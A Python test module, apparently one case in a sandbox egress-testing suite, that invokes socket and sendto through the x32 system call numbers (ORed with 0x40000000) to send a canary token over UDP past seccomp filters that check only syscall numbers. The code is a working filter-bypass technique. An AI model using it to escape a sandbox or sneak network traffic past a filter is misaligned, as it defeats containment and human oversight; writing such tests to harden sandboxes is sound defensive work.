# SPDX-License-Identifier: Apache-2.0
"""The third system call table of x86-64, which filters by number forget."""
import ctypes
import os
import socket

from bypass import INET, Skip

TITLE = "x32 system calls: socket and send by nr | 0x40000000"
THREAT = "53"
X32 = 0x40000000


def attack(c):
    with c.step("udp") as token:
        c.apart(lambda: send(c, token))


def send(c, token):
    if os.uname().machine != "x86_64":
        raise Skip("x86-64 only")
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(X32 | 39) < 0:
        raise Skip("this kernel has no x32 system calls")
    fd = libc.syscall(X32 | 41, int(INET[c.family]), int(socket.SOCK_DGRAM), 0)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "socket by x32")
    with socket.socket(fileno=fd) as s:
        s.connect((c.e, 9999))
        data = ctypes.create_string_buffer(token.encode())
        if libc.syscall(X32 | 44, fd, data, len(token), 0, None, 0) < 0:
            raise OSError(ctypes.get_errno(), "sendto by x32")
